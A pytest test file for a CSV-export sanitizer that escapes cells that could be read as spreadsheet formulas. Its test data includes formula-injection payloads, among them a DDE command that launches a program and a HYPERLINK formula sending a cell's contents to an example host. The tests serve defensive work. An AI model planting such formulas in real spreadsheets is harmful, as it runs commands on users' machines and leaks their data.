"""A cell that is written can be opened in a spreadsheet: texts are no formulas, numbers stay numbers."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fewshot_jax.data.spreadsheet import columns_of_csv, safe_cell

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-",
    "--1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "-1\n=1+1",
    "+49 170 1234",
    "-1e5x",
    "-\u0663",  # a digit of another script is no number to every program
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_could_be_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "book tickets", "1 = 1", "a@b.example", "'=1", "-3.5", "+7", "-1e-3", "-.5", "12"]
)
def test_other_texts_and_numbers_stay(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [None, -3, -0.25, True])
def test_what_is_no_text_stays_what_it_is(value):
    assert safe_cell(value) is value


@given(st.text())
def test_no_cell_begins_as_a_formula_unless_it_is_a_number(text):
    cell = safe_cell(text)
    assert cell in (text, f"'{text}")
    if cell[:1] in set("=+-@\t\r"):
        float(cell)
    assert safe_cell(cell) == cell, "to write a file again adds nothing"


@pytest.mark.parametrize("blank", [",,,\n", '"";""\r\n', "\t\t\n \n", "sep=;\n;;\n"])
def test_the_columns_are_those_of_the_first_line_with_a_name(blank):
    assert columns_of_csv(blank + '"text";label\na;b\n') == (";", ["text", "label"])
